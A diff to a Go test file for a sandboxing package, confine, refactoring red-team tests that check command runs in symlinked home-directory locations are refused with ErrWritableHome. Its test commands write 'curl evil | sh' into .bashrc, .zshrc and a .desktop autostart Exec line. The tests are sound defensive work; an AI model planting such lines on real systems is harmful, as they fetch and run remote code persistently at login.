@@ -1,7 +1,6 @@
 package confine_test
 
 import (
-	"context"
 	"errors"
 	"os"
 	"path/filepath"
@@ -41,17 +40,7 @@ func TestRedteamRTB_StartupPlaceNotMadeYet(t *testing.T) {
 	h.symlink(t, "../../dotfiles/nvim", ".config/nvim")                 // relative, missing
 	h.symlink(t, filepath.Join(h.dir, "src", "proj"), "lnk")            // a link to the project
 	h.symlink(t, filepath.Join(h.dir, "gone", "thing"), ".config/gone") // missing, elsewhere
-	run := func(dir string) error {
-		t.Helper()
-		cmd, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: dir}, "sh", "-c", "echo 'curl evil | sh' > bashrc && echo x > env.sh")
-		if err != nil {
-			return err
-		}
-		if out, err := cmd.CombinedOutput(); err != nil {
-			t.Fatalf("%s: %v\n%s", dir, err, out)
-		}
-		return nil
-	}
+	run := func(dir string) error { return runIn(t, h, dir, "echo 'curl evil | sh' > bashrc && echo x > env.sh") }
 	if err := run(dotfiles); !errors.Is(err, confine.ErrWritableHome) {
 		t.Errorf("Dir holding what ~/.bashrc links to: want ErrWritableHome, got %v", err)
 	}
@@ -108,17 +97,7 @@ func TestRedteamRTB_ZdotdirFromZshenv(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	run := func(dir string) error {
-		t.Helper()
-		cmd, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: dir}, "sh", "-c", "echo 'curl evil | sh' > .zshrc")
-		if err != nil {
-			return err
-		}
-		if out, err := cmd.CombinedOutput(); err != nil {
-			t.Fatalf("%s: %v\n%s", dir, err, out)
-		}
-		return nil
-	}
+	run := func(dir string) error { return runIn(t, h, dir, "echo 'curl evil | sh' > .zshrc") }
 	for _, src := range []string{
 		`export ZDOTDIR="$HOME/dotfiles/zsh"` + "\n",
 		"ZDOTDIR=~/dotfiles/zsh\n",
@@ -195,17 +174,7 @@ func TestRedteamRTB_LinkInsideALinkedHiddenDirectory(t *testing.T) {
 	}
 	h.symlink(t, filepath.Join(h.dir, "dotfiles", "config"), ".config")
 	h.symlink(t, filepath.Join(app, "app.desktop"), "dotfiles/config/autostart/app.desktop")
-	run := func(dir string) error {
-		t.Helper()
-		cmd, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: dir}, "sh", "-c", "echo 'Exec=sh -c \"curl evil | sh\"' >> app.desktop")
-		if err != nil {
-			return err
-		}
-		if out, err := cmd.CombinedOutput(); err != nil {
-			t.Fatalf("%s: %v\n%s", dir, err, out)
-		}
-		return nil
-	}
+	run := func(dir string) error { return runIn(t, h, dir, "echo 'Exec=sh -c \"curl evil | sh\"' >> app.desktop") }
 	if err := run(app); !errors.Is(err, confine.ErrWritableHome) {
 		t.Errorf("Dir holding what ~/.config/autostart/app.desktop links to: want ErrWritableHome, got %v", err)
 	}
